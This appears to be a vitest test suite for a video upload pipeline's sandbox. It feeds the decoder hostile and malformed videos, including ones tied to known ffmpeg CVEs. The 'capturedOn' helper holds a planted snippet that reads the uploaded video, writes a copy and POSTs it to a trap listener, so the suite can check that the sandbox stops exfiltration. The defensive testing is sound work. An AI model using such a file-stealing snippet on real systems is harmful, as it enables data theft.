import { randomInt } from 'node:crypto';
import { readdirSync, rmSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest';
import { unwalled } from '#engines/children/wall.ts';
import { openWalls, type Walls } from '#engines/children/walls.ts';
import { openNodeAv } from '#engines/video/node-av.ts';
import { openVideoEngine } from '#engines/video/open-engine.ts';
import { limitsFor } from '#engines/video/programs.ts';
import type { VideoEngine } from '#engines/video/video.ts';
import { openDecoders } from '#features/media/decoding/decoders.ts';
import { openVideoWork } from '#features/media/pipeline/process-video.ts';
import { canDrawClips, drawClip, warnNoClips } from '#tests/support/media/clips.ts';
import { readRows } from '#tests/support/people.ts';
import { countOf, guards, isFull, printProof } from '../counts.ts';
import { drawLargeVideos, largeVideoCount } from '../tracing/large-videos.ts';
import { mostLargeDecoderBytes, watchVerdicts } from '../viewers/watch-verdicts.ts';
import { type HostileFile, hostileNames, named } from './hostile-files.ts';
import { type HostileWorld, openHostileWorld, openTrap, type Sent, type Trap } from './hostile-uploads.ts';
import { damageVideos, findHostileVideos, makeLiars } from './hostile-videos.ts';

guards('src/features/media/**', 'src/engines/video/**', 'src/engines/children/**');

if (!canDrawClips) warnNoClips();

/** What this machine has is hidden from whoever looks for it, name by name: then the engine that npm ships stands in. */
const hidden = vi.hoisted(() => new Set<string>());
vi.mock('node:fs', async (load) => {
  const real = await load<typeof import('node:fs')>();
  const existsSync: typeof real.existsSync = (file) =>
    !hidden.has(String(file).split('/').at(-1) ?? '') && real.existsSync(file);
  return { ...real, existsSync };
});

/** The time that is stated for a video of a second. */
const mostVerdictSeconds = 120 + 20;
/** Every decoder has the video that it reads in its command line. */
const readsVideo = 'inputs/original';

let trap: Trap;
let world: HostileWorld;
beforeAll(async () => {
  trap = await openTrap();
});
afterEach(async () => {
  hidden.clear();
  await world.app.close();
  expect(readdirSync(trap.folder)).toEqual([]);
});
afterAll(() => trap.close());

const drawGood = (): HostileFile => ({ what: 'a good video', name: 'good.mp4', bytes: drawClip({ seconds: 1 }) });

const engines = [
  { name: 'the ffmpeg of this machine', without: [] },
  { name: 'the engine that npm ships', without: ['ffmpeg', 'ffprobe'] },
] as const;

test.runIf(canDrawClips).for(engines)(
  'hostile videos end with a reason, ask nobody, leave nothing and hold up nobody (CVE-2016-1897, CVE-2016-1898): $name',
  { timeout: 3_600_000 },
  async ({ name, without }, { skip }) => {
    if (without.length > 0 && openNodeAv() === undefined) return skip('npm ships no engine for this machine');
    for (const program of without) hidden.add(program);
    world = await openHostileWorld(trap);
    const seeds = [11, randomInt(2 ** 31)];
    const videos = named([
      // In the short form the engine that npm ships has a share of the first one's.
      ...(isFull || without.length === 0 ? findHostileVideos() : []),
      ...makeLiars(trap.address),
      ...damageVideos(seeds, countOf(1, 9, 48)),
    ]);
    expect(videos.length).toBeGreaterThan(hostileNames.length);
    expect(world.leftInScratch()).toEqual([]);
    const watch = watchVerdicts(world.states, readsVideo);
    const sent: Sent[] = [];
    for (const video of [...videos, drawGood()]) sent.push(await world.send(video));
    const ended = await world.waitForVerdicts(3_000_000);
    const seen = await watch.end();
    const failed = ended.filter(({ state }) => state === 'failed');
    printProof(`malformed-video, ${name}`, videos.length, {
      seed: seeds[1] ?? 0,
      failed: failed.length,
      ready: ended.length - failed.length,
      connections: trap.visits(),
      leftInScratch: world.leftInScratch().length,
      serverErrors: sent.filter(({ status }) => status >= 500).length,
      decoderMegabytes: Math.round(seen.peakBytes / 1e6),
      slowestSeconds: Math.round(seen.slowestSeconds),
    });
    expect(await world.findFaults(sent, seen, mostVerdictSeconds)).toEqual([]);
    expect(failed.length).toBeGreaterThan(videos.length / 4);
    // Each stood where it was looked for.
    expect(
      [...seen.programs].some((program) => program.includes('node-av')),
      name,
    ).toBe(without.length > 0);
  },
);

test.runIf(canDrawClips).for(engines)(
  'videos that really are large are made within the memory that is stated, or refused for their size: $name',
  { timeout: 3_600_000 },
  async ({ without }, { skip }) => {
    if (without.length > 0 && (openNodeAv() === undefined || !isFull))
      return skip('in the long form, where npm ships it');
    for (const program of without) hidden.add(program);
    world = await openHostileWorld(trap);
    const sent: Sent[] = [];
    const all = { peakBytes: 0, slowestSeconds: 0 };
    for (const video of [...drawLargeVideos(countOf(1, largeVideoCount)), drawGood()]) {
      const watch = watchVerdicts(world.states, readsVideo);
      sent.push(await world.send(video));
      await world.waitForVerdicts(1_200_000);
      const { peakBytes, slowestSeconds } = await watch.end();
      const figures = { megabytes: Math.round(peakBytes / 1e6), seconds: Math.round(slowestSeconds) };
      printProof(`malformed-video, ${video.what}`, 1, figures);
      all.peakBytes = Math.max(all.peakBytes, peakBytes);
      all.slowestSeconds = Math.max(all.slowestSeconds, slowestSeconds);
    }
    expect(await world.findFaults(sent, all, mostVerdictSeconds, mostLargeDecoderBytes)).toEqual([]);
  },
);

/** One good video by the real work, with one of its defences off. @returns what went wrong */
async function makeWith(videos: { walls: Walls; engine: VideoEngine }): Promise<string[]> {
  world = await openHostileWorld(trap, false);
  const { engines } = world.app;
  const sent = await world.send(drawGood());
  const decoders = openDecoders(engines);
  const work = openVideoWork(engines, { ...decoders, videos: async () => videos });
  await work.make(sent.id, AbortSignal.timeout(120_000), async () => undefined);
  await decoders.close();
  return world.findFaults([sent]);
}

async function openEngine(walls: Walls): Promise<VideoEngine> {
  const engine = await openVideoEngine(walls);
  if (engine === undefined) throw new Error('no engine');
  return engine;
}

/** An engine in whose decoder somebody else is at work: he sends what he sees to the listener and leaves a copy for later. */
async function capturedOn(walls: Walls): Promise<{ walls: Walls; engine: VideoEngine }> {
  const engine = await openEngine(walls);
  const steal = `const fs = require('node:fs');
    const video = fs.readFileSync('../inputs/original');
    try { fs.writeFileSync(${JSON.stringify(path.join(trap.folder, 'copy'))}, video); } catch {}
    fetch(${JSON.stringify(trap.address)}, { method: 'POST', body: video }).catch(() => undefined);`;
  const captured: VideoEngine = {
    ...engine,
    async probe(bench, signal) {
      const command = [process.execPath, '-e', steal];
      expect((await bench.run({ command, limits: limitsFor(30), seconds: 30 })).ended).toBe('well');
      return engine.probe(bench, signal);
    },
  };
  return { walls, engine: captured };
}

const patience = 240_000;

test.runIf(canDrawClips)(
  'a captured decoder asks nobody and leaves nothing behind the wall',
  { timeout: patience },
  async (context) => {
    const walls = await openWalls({ hidden: [] });
    if (walls.wall.name !== 'bwrap') return context.skip(`the wall here is ${walls.wall.name}`);
    expect(await makeWith(await capturedOn(walls))).toEqual([]);
  },
);

test.runIf(canDrawClips)('planted: without a wall it does both, and that is found', { timeout: patience }, async () => {
  const walls = await openWalls({ hidden: [] }, [unwalled(undefined)]);
  expect(await makeWith(await capturedOn(walls))).toEqual([
    'somebody was asked',
    'something was left in the scratch folder',
  ]);
  rmSync(path.join(trap.folder, 'copy'));
});

test.runIf(canDrawClips)(
  'planted: a ladder that leaves its video on the bench is found',
  { timeout: patience },
  async () => {
    const walls = await openWalls({ hidden: [] });
    const kept: string[] = [];
    const forgetful: Walls = {
      ...walls,
      makeFolder() {
        const folder = walls.makeFolder();
        kept.push(folder.path);
        return { ...folder, path: `${folder.path}-elsewhere` };
      },
    };
    expect(await makeWith({ walls: forgetful, engine: await openEngine(walls) })).toEqual([
      'something was left in the scratch folder',
    ]);
    for (const folder of kept) rmSync(folder, { recursive: true });
  },
);

test.runIf(canDrawClips)(
  'planted: a wrong reason, none, a video that is gone, a stray and an error are found',
  { timeout: patience },
  async () => {
    const walls = await openWalls({ hidden: [] });
    expect(await makeWith({ walls, engine: await openEngine(walls) })).toEqual([]);
    const { app } = world;
    const good = (await world.states())[0]?.id ?? '';
    await app.engines.storage.put('media/stray', Buffer.from('a video'));
    await readRows(app, `update media set state = 'failed' where id = $1`, [good]);
    const file = { ...drawGood(), what: 'a liar', code: 'UNSUPPORTED' };
    const ends = [
      { file, status: 500, id: 'none' },
      { file: drawGood(), status: 201, id: 'gone' },
      { file, status: 201, id: good },
    ];
    expect(await world.findFaults(ends, { peakBytes: 601e6, slowestSeconds: 141 }, mostVerdictSeconds)).toEqual([
      'an error of the server',
      'a file that nobody heard of again',
      'a failure without a reason',
      'a good file that was held up',
      'a stored file has no name',
      'a decoder held too much',
      'a verdict took too long',
      'a liar ended as null',
    ]);
  },
);
